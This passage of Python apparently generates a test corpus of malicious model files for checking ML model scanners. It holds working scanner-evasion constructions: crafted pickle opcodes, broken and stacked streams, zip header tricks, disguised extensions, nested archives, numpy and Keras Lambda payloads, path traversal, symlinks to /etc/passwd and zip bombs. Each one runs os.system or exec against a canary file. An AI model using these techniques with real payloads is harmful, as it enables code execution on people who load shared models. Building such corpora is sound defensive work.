                       + pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42" + pickle.STOP)


@technique("memo-type-confusion-after-payload", "2.memo",
           "payload, then STACK_GLOBAL on an int taken from the memo",
           advisory="GHSA-9gvj-pp9x-gcfr", ref=GHSA + "GHSA-9gvj-pp9x-gcfr")
def _memo_type_confusion(target: Path, canary: Path) -> None:
    target.write_bytes(pickle.PROTO + b"\x04" + P.body(G("os", "system")(sh(canary))) + pickle.POP
                       + pickle.BININT + struct.pack("<i", 42) + pickle.MEMOIZE + b"\x8c\x02os" + pickle.MEMOIZE
                       + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
                       + pickle.BININT1 + b"\x42" + pickle.STOP)


@technique("memo-stack-global-at-index-0", "2.memo",
           "STRING 'os', STRING 'system', STACK_GLOBAL as the very first opcodes (scanner off-by-one)",
           advisory="GHSA-9gvj-pp9x-gcfr", ref=PICKLESCAN_ADV + "GHSA-9gvj-pp9x-gcfr")
def _memo_index0(target: Path, canary: Path) -> None:
    target.write_bytes(b"S'os'\nS'system'\n\x93S'" + sh(canary).encode() + b"'\n\x85R.")


# -- payload first, then a broken stream (nullifAI) ------------------------------------------------------------
@technique("broken-invalid-opcode-after-payload", "2.broken-stream", "payload, then an invalid opcode (no STOP)",
           advisory="nullifAI", ref=NULLIFAI)
def _broken_invalid(target: Path, canary: Path) -> None:
    target.write_bytes(P.dumps(G("builtins", "exec")(py(canary)), 2, stop=False) + b"\xff\xfe garbage")


@technique("broken-truncated-after-payload", "2.broken-stream",
           "payload, then the stream ends inside an opcode argument", advisory="nullifAI", ref=NULLIFAI)
def _broken_truncated(target: Path, canary: Path) -> None:
    target.write_bytes(P.dumps(G("os", "system")(sh(canary)), 4, stop=False) + pickle.BINUNICODE + b"\xff\x00")


@technique("broken-torch-zip-nullifai", "2.broken-stream",
           "torch zip whose data.pkl runs the payload and then breaks (nullifAI layout)", "pytorch_model.bin",
           advisory="nullifAI", ref=NULLIFAI)
def _broken_torch(target: Path, canary: Path) -> None:
    pkl = P.dumps(G("builtins", "exec")(py(canary)), 2, stop=False) + b"\x01\x02\x03"
    target.write_bytes(build_zip(torch_entries(pkl)))


@technique("broken-7z-torch-nullifai", "2.broken-stream",
           "7z-compressed 'PyTorch' file with a broken pickle after the payload (nullifAI)", "model.pt",
           advisory="nullifAI", ref=NULLIFAI, requires=("py7zr",))
def _broken_7z(target: Path, canary: Path) -> None:
    import py7zr

    pkl = P.dumps(G("builtins", "exec")(py(canary)), 2, stop=False) + b"\x01\x02\x03"
    with py7zr.SevenZipFile(target, "w") as z:
        z.writestr(pkl, "model/data.pkl")


# -- a second pickle after a benign one ------------------------------------------------------------------------
@technique("stacked-second-pickle", "2.stacked", "benign pickle, then a malicious pickle in the same file")
def _stacked(target: Path, canary: Path) -> None:
    target.write_bytes(pickle.dumps({"epoch": 3, "lr": 1e-3}, protocol=4) + os_system(canary))


@technique("stacked-third-pickle", "2.stacked", "two benign pickles, then a malicious one")
def _stacked3(target: Path, canary: Path) -> None:
    target.write_bytes(pickle.dumps([1, 2, 3], protocol=2) + pickle.dumps({"a": 1}, protocol=4)
                       + P.dumps(G("builtins", "exec")(py(canary)), 4))


@technique("stacked-after-sklearn", "2.stacked", "a real sklearn model pickle followed by a malicious pickle")
def _stacked_sklearn(target: Path, canary: Path) -> None:
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    X = np.arange(20.0).reshape(10, 2)
    m = LogisticRegression().fit(X, [0, 1] * 5)
    target.write_bytes(pickle.dumps(m, protocol=5) + os_system(canary))


# ==================================================================================================
# 3. Containers and names
# ==================================================================================================

for _name, _proto, _why in [
    ("model.weights", 4, "unknown extension"),
    ("model", 4, "no extension"),
    ("notes.txt", 0, "protocol 0 pickle (pure ASCII) named .txt"),
    ("model-noext-proto0", 0, "protocol 0 pickle (pure ASCII), no extension"),
    ("README.md", 0, "protocol 0 pickle named .md"),
    ("config.yaml", 0, "protocol 0 pickle named .yaml"),
    ("model.safetensors", 4, "pickle named .safetensors"),
    ("weights.npy", 2, "pickle named .npy (numpy.load(allow_pickle=True) falls back to pickle)"),
    ("model.h5", 4, "pickle named .h5"),
    ("model.onnx", 4, "pickle named .onnx"),
    ("model.gguf", 4, "pickle named .gguf"),
]:
    @technique(f"ext-{_name.replace('.', '-').lower()}", "3.extension", f"malicious pickle: {_why}", _name,
               advisory="CVE-2025-1889", ref=NVD + "CVE-2025-1889")
    def _ext(target: Path, canary: Path, _p: int = _proto) -> None:
        if _p == 0:
            target.write_bytes(pickle.dumps(Reduce(exec, (py(canary),)), protocol=0))
        else:
            target.write_bytes(P.dumps(G("builtins", "exec")(py(canary)), _p))

for _name in ("model.pt", "pytorch_model.bin", "last.ckpt", "model.pth", "checkpoint.pth.tar"):
    @technique(f"plain-pickle-{_name.replace('.', '-').lower()}", "3.extension",
               f"plain (non-zip) pickle named {_name}: torch.load reads it while looking for its magic",
               _name, advisory="CVE-2025-10155", ref=NVD + "CVE-2025-10155")
    def _plain(target: Path, canary: Path) -> None:
        target.write_bytes(P.dumps({"state_dict": {}, "epoch": Seq(G("os", "system")(sh(canary)), 1)}, 2))


# -- zip tricks ---------------------------------------------------------------------------------------------
@technique("zip-torch-data-pkl", "3.zip", "malicious data.pkl in a well-formed torch zip", "pytorch_model.bin")
def _zip_plain(target: Path, canary: Path) -> None:
    target.write_bytes(malicious_torch_zip(canary))


@technique("zip-name-mismatch", "3.zip", "data.pkl: local-header name differs from the central directory",
           "pytorch_model.bin", advisory="CVE-2025-1944", ref=NVD + "CVE-2025-1944")
def _zip_mismatch(target: Path, canary: Path) -> None:
    pkl = inject(torch_data_pkl(), G("os", "system")(sh(canary)))
    target.write_bytes(build_zip(torch_entries(pkl, local_name="archive/datap.kl")))


@technique("zip-name-mismatch-central", "3.zip",
           "central directory names 'datap.kl', local header 'data.pkl' (the other direction)",
           "pytorch_model.bin", advisory="CVE-2025-1944", ref=NVD + "CVE-2025-1944")
def _zip_mismatch2(target: Path, canary: Path) -> None:
    pkl = inject(torch_data_pkl(), G("os", "system")(sh(canary)))
    entries = torch_entries(pkl)
    for e in entries:
        if e.name == "archive/data.pkl":
            e.local_name, e.name = "archive/data.pkl", "archive/datap.kl"
    target.write_bytes(build_zip(entries))


@technique("zip-flag-encrypted", "3.zip", "data.pkl marked encrypted (flag bit 0) but stored in clear",
           "pytorch_model.bin", rules=ZIP_ANOMALY, container=True, advisory="CVE-2025-1945", ref=NVD + "CVE-2025-1945")
def _zip_flag(target: Path, canary: Path) -> None:
    pkl = inject(torch_data_pkl(), G("os", "system")(sh(canary)))
    target.write_bytes(build_zip(torch_entries(pkl, flags=0x1)))


@technique("zip-flag-bits-central-only", "3.zip",
           "flag bits (encrypted + strong encryption) set in the central directory only", "pytorch_model.bin",
           rules=ZIP_ANOMALY, container=True, advisory="CVE-2025-1945", ref=NVD + "CVE-2025-1945")
def _zip_flag2(target: Path, canary: Path) -> None:
    pkl = inject(torch_data_pkl(), G("os", "system")(sh(canary)))
    target.write_bytes(build_zip(torch_entries(pkl, central_flags=0x41)))


@technique("zip-bad-crc", "3.zip", "data.pkl with a wrong CRC-32", "pytorch_model.bin",
           advisory="CVE-2025-10156", ref=NVD + "CVE-2025-10156")
def _zip_crc(target: Path, canary: Path) -> None:
    pkl = inject(torch_data_pkl(), G("os", "system")(sh(canary)))
    target.write_bytes(build_zip(torch_entries(pkl, crc=0xDEADBEEF)))


@technique("zip-corrupt-first-member", "3.zip",
           "a corrupt unused member listed first (bad deflate data), then the malicious data.pkl",
           "pytorch_model.bin", advisory="modelscan#354", ref=MODELSCAN_ISSUE + "354")
def _zip_corrupt_first(target: Path, canary: Path) -> None:
    junk = Entry("archive/.junk.pkl", b"\x00" * 64, method=8)
    junk.compressed = b"\xff\xff\xff\xff corrupt deflate"
    entries = [junk, *torch_entries(inject(torch_data_pkl(), G("os", "system")(sh(canary))))]
    target.write_bytes(build_zip(entries))


@technique("zip-duplicate-malicious-first", "3.zip",
           "duplicate 'archive/data.pkl': malicious first, benign second (zipfile reads the last)",
           "pytorch_model.bin")
def _zip_dup1(target: Path, canary: Path) -> None:
    evil = Entry("archive/data.pkl", inject(torch_data_pkl(), G("os", "system")(sh(canary))))
    target.write_bytes(build_zip([evil, *torch_entries()]))


@technique("zip-duplicate-malicious-last", "3.zip", "duplicate 'archive/data.pkl': benign first, malicious last",
           "pytorch_model.bin")
def _zip_dup2(target: Path, canary: Path) -> None:
    evil = Entry("archive/data.pkl", inject(torch_data_pkl(), G("os", "system")(sh(canary))))
    target.write_bytes(build_zip([*torch_entries(), evil]))


@technique("zip-pickle-file-other-member", "3.zip",
           "payload in 'archive/config.json' of a torch zip, loaded via torch.load(pickle_file='config.json')",
           "pytorch_model.bin", ref="https://github.com/pytorch/pytorch/blob/main/torch/serialization.py")
def _zip_pickle_file(target: Path, canary: Path) -> None:
    evil = Entry("archive/config.json", inject(torch_data_pkl(), G("os", "system")(sh(canary))))
    target.write_bytes(build_zip([*torch_entries(), evil]))


@technique("zip-pickle-in-data-dir", "3.zip",
           "payload hidden as an unreferenced storage record 'archive/data/9' (torch.load(pickle_file='data/9'))",
           "pytorch_model.bin")
def _zip_pickle_data(target: Path, canary: Path) -> None:
    evil = Entry("archive/data/9", os_system(canary))
    target.write_bytes(build_zip([*torch_entries(), evil]))


@technique("zip-generic-pickle-member", "3.zip", "plain zip with a pickle member named data.txt", "model.zip",
           advisory="CVE-2025-1889", ref=NVD + "CVE-2025-1889")
def _zip_generic(target: Path, canary: Path) -> None:
    target.write_bytes(zip_bytes([("data.txt", P.dumps(G("builtins", "exec")(py(canary)), 4))]))


@technique("zip-deflated-data-pkl", "3.zip", "torch zip with a deflated (not stored) malicious data.pkl",
           "pytorch_model.bin")
def _zip_deflated(target: Path, canary: Path) -> None:
    pkl = inject(torch_data_pkl(), G("os", "system")(sh(canary)))
    target.write_bytes(build_zip(torch_entries(pkl, method=8)))


@technique("zip-prepended-data", "3.zip", "bytes before the zip (self-extracting layout); data.pkl malicious",
           "pytorch_model.bin")
def _zip_prepended(target: Path, canary: Path) -> None:
    target.write_bytes(b"\x00" * 100 + malicious_torch_zip(canary))


# -- legacy PyTorch -------------------------------------------------------------------------------------------
for _idx, _slot in [(1, "protocol-version"), (2, "sys-info"), (3, "main"), (4, "storage-keys")]:
    @technique(f"legacy-torch-payload-in-{_slot}", "3.legacy-torch",
               f"legacy torch file (magic number intact) with the payload in its {_slot} pickle", "model.pt",
               advisory="CVE-2025-10155", ref=NVD + "CVE-2025-10155")
    def _legacy(target: Path, canary: Path, _i: int = _idx) -> None:
        target.write_bytes(legacy_with_payload(_i, G("os", "system")(sh(canary))))


@technique("legacy-torch-payload-after-storages", "3.legacy-torch",
           "legacy torch file with a malicious pickle appended after the raw storages", "model.pt")
def _legacy_after(target: Path, canary: Path) -> None:
    target.write_bytes(b"".join(legacy_torch_streams()) + os_system(canary))


def _tar_torch(pickle_member: bytes, storages: bytes | None = None) -> bytes:
    count0 = pickle.dumps(0, protocol=2)
    return tar_bytes([
        ("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                   "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)),
        ("pickle", pickle_member),
        ("tensors", count0),
        ("storages", storages if storages is not None else count0),
    ])


@technique("legacy-torch-tar-pickle", "3.legacy-torch", "torch v0.1.1 tar format: payload in the 'pickle' member",
           "model.pt", ref="https://github.com/pytorch/pytorch/blob/main/torch/serialization.py")
def _tar_legacy(target: Path, canary: Path) -> None:
    target.write_bytes(_tar_torch(P.dumps({"w": Seq(G("os", "system")(sh(canary)), 0)}, 2)))


@technique("legacy-torch-tar-storages", "3.legacy-torch", "torch v0.1.1 tar format: payload in 'storages'",
           "model.pt", ref="https://github.com/pytorch/pytorch/blob/main/torch/serialization.py")
def _tar_legacy2(target: Path, canary: Path) -> None:
    target.write_bytes(_tar_torch(pickle.dumps({}, protocol=2),
                                  storages=P.dumps(Seq(G("os", "system")(sh(canary)), 0), 2)))


# -- compression ------------------------------------------------------------------------------------------
for _ext, _fn in [
    ("gz", gzip.compress),
    ("bz2", bz2.compress),
    ("xz", lzma.compress),
    ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
    ("zlib", zlib.compress),
]:
    @technique(f"compressed-pickle-{_ext}", "3.compression", f"{_ext}-compressed malicious pickle",
               f"model.pkl.{_ext}" if _ext != "zlib" else "model.joblib")
    def _compressed(target: Path, canary: Path, _f: Callable[[bytes], bytes] = _fn) -> None:
        target.write_bytes(_f(P.dumps(G("builtins", "exec")(py(canary)), 4)))


@technique("compressed-pickle-zstd", "3.compression", "zstd-compressed malicious pickle", "model.pkl.zst",
           requires=("backports.zstd",))
def _compressed_zstd(target: Path, canary: Path) -> None:
    from backports import zstd

    target.write_bytes(zstd.compress(P.dumps(G("builtins", "exec")(py(canary)), 4)))


@technique("compressed-pandas-gzip", "3.compression", "pandas-style gzip pickle ('frame.pkl.gz') with a payload",
           "frame.pkl.gz")
def _compressed_pandas(target: Path, canary: Path) -> None:
    import pandas as pd

    frame = pd.DataFrame({"a": [1, 2, 3]})
    target.write_bytes(gzip.compress(pickle.dumps([frame, Reduce(exec, (py(canary),))], protocol=5)))


@technique("compressed-joblib-zlib-real", "3.compression", "joblib.dump(compress='zlib') of a model with a payload",
           "model.joblib")
def _joblib_zlib(target: Path, canary: Path) -> None:
    import joblib
    import numpy as np

    joblib.dump({"coef": np.arange(8.0), "post": Reduce(exec, (py(canary),))}, target, compress="zlib")


@technique("compressed-double-gzip", "3.compression", "gzip inside gzip around a malicious pickle",
           "model.pkl.gz.gz")
def _double_gzip(target: Path, canary: Path) -> None:
    target.write_bytes(gzip.compress(gzip.compress(os_system(canary))))


@technique("joblib-payload-after-buffers", "3.compression",
           "joblib file: the malicious object follows inline numpy buffers", "model.joblib")
def _joblib_after(target: Path, canary: Path) -> None:
    import joblib
    import numpy as np

    joblib.dump({"coef": np.arange(64.0).reshape(8, 8), "intercept": np.zeros(8, dtype=np.float32),
                 "classes": np.array([0, 1], dtype=np.int64), "post": Reduce(exec, (py(canary),))}, target)


@technique("joblib-payload-after-object-array", "3.compression",
           "joblib file: payload after an object array (nested pickle) and numeric buffers", "model.joblib")
def _joblib_after_obj(target: Path, canary: Path) -> None:
    import joblib
    import numpy as np

    joblib.dump({"labels": np.array(["cat", "dog", None], dtype=object), "w": np.ones(16),
                 "post": Reduce(exec, (py(canary),))}, target)


@technique("joblib-payload-inside-object-array", "3.compression",
           "joblib file: the payload is an element of an object array (joblib's nested pickle)", "model.joblib")
def _joblib_in_obj(target: Path, canary: Path) -> None:
    import joblib
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = "ok"
    arr[1] = Reduce(exec, (py(canary),))
    joblib.dump({"w": np.ones(4), "objs": arr}, target)


@technique("joblib-pickle-appended", "3.compression", "a real joblib file followed by a second, malicious pickle",
           "model.joblib")
def _joblib_appended(target: Path, canary: Path) -> None:
    import joblib
    import numpy as np

    joblib.dump({"coef": np.arange(16.0)}, target)
    with target.open("ab") as f:
        f.write(os_system(canary))


@technique("sevenzip-pickle", "3.compression", "7z archive holding a malicious data.pkl", "model.7z",
           requires=("py7zr",), ref=NULLIFAI)
def _7z(target: Path, canary: Path) -> None:
    import py7zr

    with py7zr.SevenZipFile(target, "w") as z:
        z.writestr(os_system(canary), "data.pkl")


@technique("sevenzip-torch-checkpoint", "3.compression", "7z archive holding a malicious torch checkpoint",
           "checkpoint.7z", requires=("py7zr",), ref=NULLIFAI)
def _7z_torch(target: Path, canary: Path) -> None:
    import py7zr

    with py7zr.SevenZipFile(target, "w") as z:
        z.writestr(malicious_torch_zip(canary), "pytorch_model.bin")


# -- nested archives -------------------------------------------------------------------------------------------
@technique("nested-zip-checkpoint", "3.nested-archive", "malicious torch checkpoint inside a zip bundle",
           "bundle.zip")
def _nested_zip(target: Path, canary: Path) -> None:
    target.write_bytes(zip_bytes([("README.md", b"# model\n"), ("model/pytorch_model.bin",
                                                                 malicious_torch_zip(canary))]))


@technique("nested-targz-checkpoint", "3.nested-archive", "malicious torch checkpoint inside a tar.gz bundle",
           "bundle.tar.gz")
def _nested_tgz(target: Path, canary: Path) -> None:
    target.write_bytes(tar_bytes([("model/config.json", b"{}"), ("model/pytorch_model.bin",
                                                                   malicious_torch_zip(canary))], mode="w:gz"))


@technique("nested-zip-in-tar-in-zip", "3.nested-archive", "pickle inside zip inside tar inside zip", "bundle.zip")
def _nested_deep(target: Path, canary: Path) -> None:
    inner = zip_bytes([("model.pkl", os_system(canary))], zipfile.ZIP_DEFLATED)
    mid = tar_bytes([("inner.zip", inner)])
    target.write_bytes(zip_bytes([("release.tar", mid)]))


@technique("nested-folder-checkpoint", "3.nested-archive",
           "HF model folder whose pytorch_model.bin is malicious (folder scan)", "hf-model")
def _nested_folder(target: Path, canary: Path) -> None:
    target.mkdir()
    (target / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 4}))
    (target / "pytorch_model.bin").write_bytes(malicious_torch_zip(canary))


# -- numpy ---------------------------------------------------------------------------------------------------
def _evil_object_array(canary: Path) -> Any:
    import numpy as np

    arr = np.empty(3, dtype=object)
    arr[0], arr[1], arr[2] = 1.0, "label", Reduce(exec, (py(canary),))
    return arr


@technique("numpy-object-array-npy", "3.numpy", "object array in .npy (np.load(allow_pickle=True) unpickles)",
           "weights.npy")
def _npy_obj(target: Path, canary: Path) -> None:
    import numpy as np

    np.save(target, _evil_object_array(canary), allow_pickle=True)


@technique("numpy-object-array-npz", "3.numpy", "object array member in an .npz beside numeric arrays",
           "weights.npz")
def _npz_obj(target: Path, canary: Path) -> None:
    import numpy as np

    with target.open("wb") as f:
        np.savez(f, w=np.arange(6.0), meta=_evil_object_array(canary))


@technique("numpy-object-array-npz-compressed", "3.numpy", "object array member in a compressed .npz",
           "weights.npz")
def _npz_obj_c(target: Path, canary: Path) -> None:
    import numpy as np

    with target.open("wb") as f:
        np.savez_compressed(f, w=np.arange(6.0), meta=_evil_object_array(canary))


@technique("numpy-npy-header-lies", "3.numpy",
           "npy header says float64 but the body is a pickle (descr 'O' hidden by a later key)", "weights.npy")
def _npy_lies(target: Path, canary: Path) -> None:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (3,), 'descr': '|O', }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    body = P.dumps(G("builtins", "exec")(py(canary)), 3)
    target.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body)


# ==================================================================================================
# 4. Beyond pickle
# ==================================================================================================

# -- archives --------------------------------------------------------------------------------------------------
@technique("archive-zip-path-traversal", "4.archive", "zip member '../../evil.txt'", "bundle.zip", rules=(),
           container=True, ref="https://snyk.io/research/zip-slip-vulnerability")
def _zip_trav(target: Path, canary: Path) -> None:
    target.write_bytes(build_zip([Entry("config.json", b"{}"), Entry("../../corpus-evil.txt", b"hello\n")]))


@technique("archive-zip-absolute-path", "4.archive", "zip member '/tmp/corpus-evil.txt'", "bundle.zip", rules=(),
           container=True, ref="https://snyk.io/research/zip-slip-vulnerability")
def _zip_abs(target: Path, canary: Path) -> None:
    target.write_bytes(build_zip([Entry("config.json", b"{}"), Entry("/tmp/corpus-evil.txt", b"hello\n")]))


@technique("archive-tar-path-traversal", "4.archive", "tar member '../../evil.txt'", "bundle.tar", rules=(),
           container=True, ref="https://nvd.nist.gov/vuln/detail/CVE-2007-4559")
def _tar_trav(target: Path, canary: Path) -> None:
    target.write_bytes(tar_bytes([("config.json", b"{}"), ("../../corpus-evil.txt", b"hello\n")]))


@technique("archive-tar-absolute-path", "4.archive", "tar member '/tmp/corpus-evil.txt'", "bundle.tar.gz",
           rules=(), container=True, ref="https://nvd.nist.gov/vuln/detail/CVE-2007-4559")
def _tar_abs(target: Path, canary: Path) -> None:
    target.write_bytes(tar_bytes([("config.json", b"{}"), ("/tmp/corpus-evil.txt", b"hello\n")], mode="w:gz"))


@technique("archive-tar-symlink", "4.archive", "tar symlink member pointing outside ('-> /etc/passwd')",
           "bundle.tar", rules=(), container=True, ref="https://nvd.nist.gov/vuln/detail/CVE-2007-4559")
def _tar_link(target: Path, canary: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        ti = tarfile.TarInfo("model/config.json")
        ti.type, ti.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(ti)
    target.write_bytes(buf.getvalue())


@technique("archive-tar-hardlink", "4.archive", "tar hard link member pointing outside", "bundle.tar", rules=(),
           container=True, ref="https://nvd.nist.gov/vuln/detail/CVE-2007-4559")
def _tar_hard(target: Path, canary: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        ti = tarfile.TarInfo("model/weights.bin")
        ti.type, ti.linkname = tarfile.LNKTYPE, "../../../etc/passwd"
        tar.addfile(ti)
    target.write_bytes(buf.getvalue())


@technique("archive-zip-symlink", "4.archive", "zip member with a symlink mode ('-> /etc/passwd')", "bundle.zip",
           rules=(), container=True, ref="https://snyk.io/research/zip-slip-vulnerability")
def _zip_link(target: Path, canary: Path) -> None:
    target.write_bytes(build_zip([Entry("config.json", b"{}"),
                                  Entry("pytorch_model.bin", b"/etc/passwd", external_attr=symlink_attr())]))


@technique("archive-folder-symlink", "4.archive", "model folder whose weights file is a symlink to /etc/passwd",
           "hf-model", rules=(), container=True, ref="https://github.com/protectai/modelscan/issues/218")
def _folder_link(target: Path, canary: Path) -> None:
    target.mkdir()
    (target / "config.json").write_text("{}")
    os.symlink("/etc/passwd", target / "pytorch_model.bin")


@technique("archive-zip-bomb-ratio", "4.archive", "zip member with a 1000:1 compression ratio (64 MiB of zeros)",
           "bundle.zip", rules=(), container=True, ref="https://www.bamsoftware.com/hacks/zipbomb/")
def _zip_bomb(target: Path, canary: Path) -> None:
    target.write_bytes(build_zip([Entry("weights.bin", bytes(64 * 1024 * 1024), method=8)]))


@technique("archive-gzip-bomb-ratio", "4.archive", "gzip stream with a 1000:1 ratio (64 MiB of zeros)",
           "model.pkl.gz", rules=(), container=True, ref="https://www.bamsoftware.com/hacks/zipbomb/")
def _gz_bomb(target: Path, canary: Path) -> None:
    target.write_bytes(gzip.compress(bytes(64 * 1024 * 1024), compresslevel=9))


@technique("archive-zip-bomb-overlap", "4.archive",
           "bomb by size: 2100 central records share one 4 MiB stored member (8.2 GiB claimed, ratio 1:1 each)",
           "bundle.zip", rules=(), container=True, ref="https://www.bamsoftware.com/hacks/zipbomb/")
def _zip_overlap(target: Path, canary: Path) -> None:
    data = os.urandom(4 * 1024 * 1024)
    target.write_bytes(build_zip([Entry("weights.bin", data, central_copies=2100)]))


@technique("archive-zip-declared-size", "4.archive",
           "bomb by size: zip header declares 4 GiB for a member whose deflate stream is a few bytes",
           "bundle.zip", rules=(), container=True, ref="https://www.bamsoftware.com/hacks/zipbomb/")
def _zip_declared(target: Path, canary: Path) -> None:
    target.write_bytes(build_zip([Entry("weights.bin", bytes(4096), method=8, declared_size=0xFFFFFFFE)]))


# -- Keras --------------------------------------------------------------------------------------------------
def _lambda_code_b64(canary: Path) -> str:
    co = next(c for c in compile(f"lambda x: (exec({py(canary)!r}), x)[1]", "<lambda>", "eval").co_consts
              if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(co)).decode("ascii")


def _k3_layer(cls: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def _k3_lambda(canary: Path) -> dict[str, Any]:
    return _k3_layer("Lambda", {
        "name": "lambda", "trainable": True, "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": {"code": _lambda_code_b64(canary), "defaults": None,
                                                            "closure": None}},
        "output_shape": None, "arguments": {},
    })


def _k3_dense(name: str = "dense", activation: Any = "relu") -> dict[str, Any]:
    return _k3_layer("Dense", {"name": name, "trainable": True, "dtype": "float32", "units": 2,
                               "activation": activation, "use_bias": True})


def _k3_sequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
    return {"module": "keras", "class_name": "Sequential",
            "config": {"name": name, "trainable": True, "dtype": "float32",
                       "layers": [_k3_layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}), *layers]},
            "registered_name": None, "build_config": {"input_shape": [None, 4]}}


def _h5_bytes(build: Callable[[Any], None]) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        build(f)
    return buf.getvalue()


def _keras_v3(config: dict[str, Any]) -> bytes:
    import numpy as np

    def weights(f: Any) -> None:
        g = f.create_group("layers").create_group("dense").create_group("vars")
        g.create_dataset("0", data=np.zeros((4, 2), dtype=np.float32))
        g.create_dataset("1", data=np.zeros(2, dtype=np.float32))

    return zip_bytes([
        ("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2025-01-01@00:00:00"}).encode()),
        ("config.json", json.dumps(config).encode()),
        ("model.weights.h5", _h5_bytes(weights)),
    ])


def _keras_h5(model_config: dict[str, Any], target: Path) -> None:
    import h5py
    import numpy as np

    with h5py.File(target, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(model_config)
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"dense"])
        d = g.create_group("dense").create_group("dense")
        d.create_dataset("kernel:0", data=np.zeros((4, 2), dtype=np.float32))


def _k2_lambda(canary: Path) -> dict[str, Any]:
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                                "function": [_lambda_code_b64(canary), None, None],
                                                "function_type": "lambda", "module": "__main__",
                                                "output_shape": None, "output_shape_type": "raw",
                                                "arguments": {}}}


def _k2_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"}}, *layers]}}


KERAS_REF = "https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp"
KERAS_LAMBDA_REF = NVD + "CVE-2024-3660"


@technique("keras-v3-lambda", "4.keras", ".keras zip: top-level Lambda layer with marshalled bytecode",
           "model.keras", rules=(), advisory="CVE-2024-3660", ref=KERAS_LAMBDA_REF, requires=("h5py",))
def _keras_lambda(target: Path, canary: Path) -> None:
    target.write_bytes(_keras_v3(_k3_sequential([_k3_lambda(canary), _k3_dense()])))


@technique("keras-v3-lambda-nested-sequential", "4.keras", ".keras zip: Lambda inside an inner Sequential",
           "model.keras", rules=(), advisory="CVE-2024-3660", ref=KERAS_LAMBDA_REF, requires=("h5py",))
def _keras_lambda_nested(target: Path, canary: Path) -> None:
    inner = _k3_sequential([_k3_lambda(canary)], name="inner")
    target.write_bytes(_keras_v3(_k3_sequential([inner, _k3_dense()])))


@technique("keras-v3-lambda-timedistributed", "4.keras", ".keras zip: Lambda wrapped in TimeDistributed",
           "model.keras", rules=(), advisory="CVE-2024-3660", ref=KERAS_LAMBDA_REF, requires=("h5py",))
def _keras_lambda_td(target: Path, canary: Path) -> None:
    td = _k3_layer("TimeDistributed", {"name": "td", "trainable": True, "layer": _k3_lambda(canary)})
    target.write_bytes(_keras_v3(_k3_sequential([td, _k3_dense()])))


@technique("keras-v3-module-function", "4.keras",
           ".keras config naming an arbitrary module function (os.system as an activation)", "model.keras",
           rules=(), advisory="CVE-2025-1550", ref=KERAS_REF, requires=("h5py",))
def _keras_module_fn(target: Path, canary: Path) -> None:
    act = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    target.write_bytes(_keras_v3(_k3_sequential([_k3_dense(activation=act)])))


@technique("keras-v3-module-class", "4.keras", ".keras config whose layer is subprocess.Popen", "model.keras",
           rules=(), advisory="CVE-2025-1550", ref=KERAS_REF, requires=("h5py",))
def _keras_module_cls(target: Path, canary: Path) -> None:
    layer = _k3_layer("Popen", {"args": ["touch", str(canary)]}, module="subprocess")
    target.write_bytes(_keras_v3(_k3_sequential([layer, _k3_dense()])))


@technique("keras-h5-lambda", "4.keras", "legacy .h5: Lambda layer with marshalled bytecode in model_config",
           "model.h5", rules=(), advisory="CVE-2024-3660", ref=KERAS_LAMBDA_REF, requires=("h5py",))
def _keras_h5_lambda(target: Path, canary: Path) -> None:
    _keras_h5(_k2_sequential([_k2_lambda(canary)]), target)


@technique("keras-h5-lambda-nested", "4.keras", "legacy .h5: Lambda inside TimeDistributed inside Sequential",
           "model.h5", rules=(), advisory="CVE-2024-3660", ref=KERAS_LAMBDA_REF, requires=("h5py",))
def _keras_h5_nested(target: Path, canary: Path) -> None:
    td = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": _k2_lambda(canary)}}
    inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": [td]}}
    _keras_h5(_k2_sequential([inner]), target)


# -- Hugging Face custom code -------------------------------------------------------------------------------------
def _safetensors_bytes() -> bytes:
    import numpy as np
    from safetensors.numpy import save

    return save({"embeddings.weight": np.zeros((4, 4), dtype=np.float32)})


def _hf_folder(target: Path, config: dict[str, Any], files: dict[str, str] | None = None) -> None:
    target.mkdir()
    (target / "config.json").write_text(json.dumps(config, indent=2))
    (target / "model.safetensors").write_bytes(_safetensors_bytes())
    for name, text in (files or {}).items():
        (target / name).write_text(text)


HF_REMOTE_CODE = "https://huggingface.co/docs/transformers/custom_models"


@technique("hf-auto-map-with-code", "4.hf-code", "config.json auto_map -> modeling_evil.py shipped in the folder",
           "hf-model", rules=(), ref=HF_REMOTE_CODE)
def _hf_auto_map(target: Path, canary: Path) -> None:
